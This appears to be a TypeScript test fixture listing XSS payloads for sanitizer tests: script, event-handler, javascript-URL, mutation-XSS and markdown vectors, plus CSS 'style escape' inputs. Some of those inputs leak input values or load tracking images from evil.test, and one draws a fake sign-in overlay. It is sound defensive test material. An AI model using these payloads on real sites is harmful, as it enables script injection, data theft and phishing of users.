// The project's list of XSS vectors (DOMPurify's classic ones, mutation XSS, SVG, script URLs).
// Each one sets `window.__xss` when it runs. Unit tests sanitise them; e2e pastes them into the
// editors, loads them as a value and writes them in markdown, and checks `window.__xss` stays
// undefined in a real browser.

/** One hostile input. */
export interface XssVector {
  name: string;
  html: string;
}

const js = ['java', 'script:'].join('');

/** Hostile HTML. */
export const XSS_HTML_VECTORS: readonly XssVector[] = [
  { name: 'script element', html: '<script>window.__xss=1</script>' },
  { name: 'img onerror', html: '<img src=x onerror="window.__xss=1">' },
  { name: 'svg onload', html: '<svg onload="window.__xss=1"></svg>' },
  { name: 'script inside svg', html: '<svg><script>window.__xss=1</script></svg>' },
  { name: 'javascript link', html: `<a href="${js}window.__xss=1">click</a>` },
  { name: 'mixed-case javascript link', html: '<a href="JaVaScRiPt:window.__xss=1">click</a>' },
  { name: 'entity-encoded javascript link', html: '<a href="&#106;avascript:window.__xss=1">click</a>' },
  { name: 'tab inside the scheme', html: '<a href="java&#x09;script:window.__xss=1">click</a>' },
  {
    name: 'control characters before the scheme',
    html: '<a href=" &#14;  javascript:window.__xss=1">click</a>',
  },
  { name: 'vbscript link', html: '<a href="vbscript:window.__xss=1">click</a>' },
  { name: 'data html link', html: '<a href="data:text/html,<script>window.__xss=1</script>">click</a>' },
  { name: 'iframe javascript src', html: `<iframe src="${js}window.__xss=1"></iframe>` },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>' },
  { name: 'object data', html: `<object data="${js}window.__xss=1"></object>` },
  {
    name: 'embed data URL',
    html: '<embed src="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">',
  },
  {
    name: 'details ontoggle',
    html: '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
  },
  { name: 'body onload', html: '<body onload="window.__xss=1">text</body>' },
  { name: 'input autofocus onfocus', html: '<input autofocus onfocus="window.__xss=1">' },
  { name: 'button formaction', html: `<form><button formaction="${js}window.__xss=1">go</button></form>` },
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=${js}window.__xss=1">` },
  { name: 'base href', html: `<base href="${js}/"><a href="x">x</a>` },
  {
    name: 'svg xlink javascript',
    html: `<svg><a xlink:href="${js}window.__xss=1"><text x="20" y="20">x</text></a></svg>`,
  },
  {
    name: 'svg animate onbegin',
    html: '<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s"></animate></svg>',
  },
  { name: 'video source onerror', html: '<video><source onerror="window.__xss=1"></video>' },
  { name: 'marquee onstart', html: '<marquee onstart="window.__xss=1">x</marquee>' },
  { name: 'eval of alt', html: '<img src=x:alert(alt) onerror=eval(src) alt="window.__xss=1">' },
  { name: 'unclosed img onerror', html: '<img src="x" onerror="window.__xss=1"//' },
  {
    name: 'svg data image',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIj48L3N2Zz4=">',
  },
  {
    name: 'style attribute javascript url',
    html: `<div style="background:url(${js}window.__xss=1)">x</div>`,
  },
  { name: 'style attribute expression', html: '<div style="width:expression(window.__xss=1)">x</div>' },
  {
    name: 'style attribute escaped javascript',
    html: '<div style="background:url(\\6a avascript:window.__xss=1)">x</div>',
  },
  { name: 'style element import', html: `<style>@import '${js}window.__xss=1';</style><p>x</p>` },
  {
    name: 'style element javascript url',
    html: `<style>p{background:url("${js}window.__xss=1")}</style><p>x</p>`,
  },
  {
    name: 'mXSS noscript title',
    html: '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  },
  {
    name: 'mXSS math mglyph style',
    html: '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
  },
  {
    name: 'mXSS form math svg',
    html: '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__xss=1 src>">',
  },
  { name: 'mXSS svg p style', html: '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">' },
  { name: 'template content', html: '<template><img src=x onerror="window.__xss=1"></template>' },
  { name: 'comment breakout', html: '<!--<img src="--><img src=x onerror=window.__xss=1//">' },
];

/** Hostile markdown. */
export const XSS_MARKDOWN_VECTORS: readonly XssVector[] = [
  { name: 'javascript link', html: `[click](${js}window.__xss=1)` },
  { name: 'mixed-case javascript link', html: '[click](JaVaScRiPt:window.__xss=1)' },
  { name: 'entity javascript link', html: '[click](&#106;avascript:window.__xss=1)' },
  { name: 'javascript image', html: `![x](${js}window.__xss=1)` },
  { name: 'javascript autolink', html: `<${js}window.__xss=1>` },
  {
    name: 'data html link',
    html: '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
  },
  { name: 'vbscript reference link', html: '[click][r]\n\n[r]: vbscript:window.__xss=1' },
  { name: 'raw script html', html: '<script>window.__xss=1</script>' },
  { name: 'raw img onerror', html: '<img src=x onerror="window.__xss=1">' },
  { name: 'raw svg onload', html: '<svg onload="window.__xss=1"></svg>' },
  { name: 'raw iframe', html: `<iframe src="${js}window.__xss=1"></iframe>` },
  { name: 'inline html link', html: `text <a href="${js}window.__xss=1">x</a> text` },
];

/**
 * Hostile styles (issue 35): content that reaches past its own box to the page. None runs code;
 * each tries to restyle the page (and so hide the watermark), paint over the app, leak the page's
 * contents to another host or borrow the page's own classes. Markdown; raw HTML passes through it.
 */
export const STYLE_ESCAPE_VECTORS: readonly XssVector[] = [
  { name: 'style sheet filter on html (not first)', html: 'x<style>html{filter:brightness(1.25)}</style>' },
  { name: 'style sheet first', html: '<style>body{opacity:0.2}</style>\n\nx' },
  {
    name: 'style sheet leaking attributes by url()',
    html: 'x<style>input[value^="a"]{background:url(https://evil.test/leak?a)}</style>',
  },
  {
    name: 'fixed full-screen panel',
    html: '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Session expired: sign in at evil.test</div>',
  },
  { name: 'sticky panel', html: '<div style="position:sticky;top:0;z-index:9">x</div>' },
  { name: 'absolute panel', html: '<div style="position:absolute;top:0;left:0;width:100vw">x</div>' },
  { name: 'uppercase and spaced position', html: '<div style="POSITION : FIXED ; TOP:0">x</div>' },
  { name: 'escaped position', html: '<div style="posit\\69 on:fixed;top:0">x</div>' },
  { name: 'commented position', html: '<div style="posi/**/tion:fixed;top:0">x</div>' },
  { name: 'important z-index', html: '<p style="z-index:99999 !important">x</p>' },
  { name: 'negative margin', html: '<p style="margin-top:-5000px;margin-left:-9999px">x</p>' },
  { name: 'negative indent', html: '<p style="text-indent:-9999px">x</p>' },
  { name: 'calc negative margin', html: '<p style="margin-top:calc(0px - 5000px)">x</p>' },
  { name: 'variable margin', html: '<p style="margin-top:var(--x, -5000px)">x</p>' },
  { name: 'transform out', html: '<p style="transform:translate(-100vw,-100vh) scale(9)">x</p>' },
  { name: 'translate property', html: '<p style="translate:-100vw -100vh">x</p>' },
  { name: 'filter on content', html: '<p style="filter:brightness(2);backdrop-filter:blur(0)">x</p>' },
  { name: 'blend mode', html: '<p style="mix-blend-mode:difference">x</p>' },
  { name: 'foreign background url', html: '<p style="background:url(https://evil.test/track.png)">x</p>' },
  {
    name: 'protocol-relative background url',
    html: '<p style="background-image:url(//evil.test/t.png)">x</p>',
  },
  { name: 'backslash background url', html: '<p style="background-image:url(/\\evil.test/t.png)">x</p>' },
  { name: 'clip path and mask', html: '<p style="clip-path:inset(0);mask:none">x</p>' },
  { name: 'pointer events none overlay', html: '<p style="pointer-events:none;position:fixed">x</p>' },
  {
    name: 'page classes (antd mask)',
    html: '<div class="ant-modal-mask">x</div><div class="ant-modal-wrap">y</div>',
  },
  { name: 'animation', html: '<p style="animation:spin 1s infinite">x</p>' },
];
